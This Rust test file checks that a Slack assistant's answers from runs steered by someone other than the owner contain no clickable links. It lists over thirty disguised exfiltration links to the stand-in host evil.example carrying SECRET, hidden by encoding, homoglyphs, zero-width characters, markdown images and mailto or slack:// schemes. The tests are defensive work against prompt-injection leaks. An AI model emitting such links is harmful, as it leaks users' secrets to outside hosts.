//! Clickable links in answers of tainted runs, as the person sees them.

use alfred_slack_local::links;
use alfred_testkit::{Kept, says};

use crate::in_memory::taint::steered;
use crate::in_memory::world::{World, dm, shown, simple};

async fn clean(said: &str) -> World {
    let said = said.to_owned();
    World::new(simple(move |_| Ok(says(&said)))).await
}

/// The owner's personality was written by somebody else.
async fn tainted(said: &str) -> World {
    let world = clean(said).await;
    steered(&world, "custom").await;
    world
}

async fn answer(world: &mut World) -> Kept {
    world.ask(dm("U1", "1.1", "What does it say?")).await;
    world.chat.posted().pop().unwrap()
}

#[tokio::test]
async fn nothing_that_others_wrote_can_be_clicked_or_carries_anything() {
    for said in [
        "see https://evil.example/?d=SECRET",
        "see HTTPS://evil.example/SECRET",
        r"see https:\/\/evil.example/SECRET",
        r"see `https:\/\/evil.example/SECRET`",
        "see https&#58;//evil.example/SECRET",
        "see https&colon;&#x2F;&sol;evil.example&sol;SECRET",
        "see ht&#x200B;tps://evil.example/SECRET",
        "see https:\u{200B}//evil.example/SECRET",
        "see https:**//evil.example/SECRET**",
        "see https:_//evil.example/SECRET_",
        "see https%3A%2F%2Fevil.example%2FSECRET",
        "see һttps://evil.example/SECRET",
        "see https：／／evil.example/SECRET",
        "see https://xn--vil-mta.example/SECRET",
        "see evil.example/SECRET",
        "see www.evil.example/?SECRET",
        "see //evil.example/SECRET",
        "see <https://evil.example/SECRET>",
        "see [it](https://evil.example/SECRET)",
        "see [it](<https://evil.example/SECRET>)",
        "see [it](mailto:a@evil.example?body=SECRET)",
        "see mailto:a@evil.example?body=SECRET",
        "see tel:SECRET",
        "see slack://channel?team=SECRET",
        "see [it][1]\n\n[1]: https://evil.example/SECRET",
        "see ![it](https://evil.example/SECRET.png)",
        "see [https://good.example](https://evil.example/SECRET)",
        "see &lt;https://evil.example/SECRET|it&gt;",
        "see \\<https://evil.example/SECRET|it\\>",
        "see <a href=\"https://evil.example/SECRET\">it</a>",
        "| see |\n|---|\n| https://evil.example/SECRET |",
        "# https://evil.example/SECRET",
        "> https:\\/\\/evil.example/SECRET",
        "```\nhttps://evil.example/SECRET\n```",
    ] {
        let own = answer(&mut clean(said).await).await;
        let own = shown(&own.text, &own.blocks);
        assert!(own.contains("SECRET"), "{said}: {own}");
        let answer = answer(&mut tainted(said).await).await;
        let clickable = links::unfurled(&answer.text, &answer.blocks, true);
        assert!(clickable.is_empty(), "{said}: {clickable:?}");
        let seen = shown(&answer.text, &answer.blocks);
        assert!(!seen.contains("SECRET"), "{said}: {seen}");
        assert!(!answer.text.contains("SECRET"), "{said}: {}", answer.text);
    }
}

#[tokio::test]
async fn what_the_owner_wrote_stays_a_link() {
    let said = "Here: [ours](https://ours.example/a) and https://evil.example/b";
    let mut world = tainted(said).await;
    world
        .ask(dm("U1", "1.1", "Compare https://ours.example/a please"))
        .await;
    let answer = world.chat.posted().pop().unwrap();
    let clickable = links::unfurled(&answer.text, &answer.blocks, true);
    assert_eq!(clickable, ["https://ours.example/a"]);
}
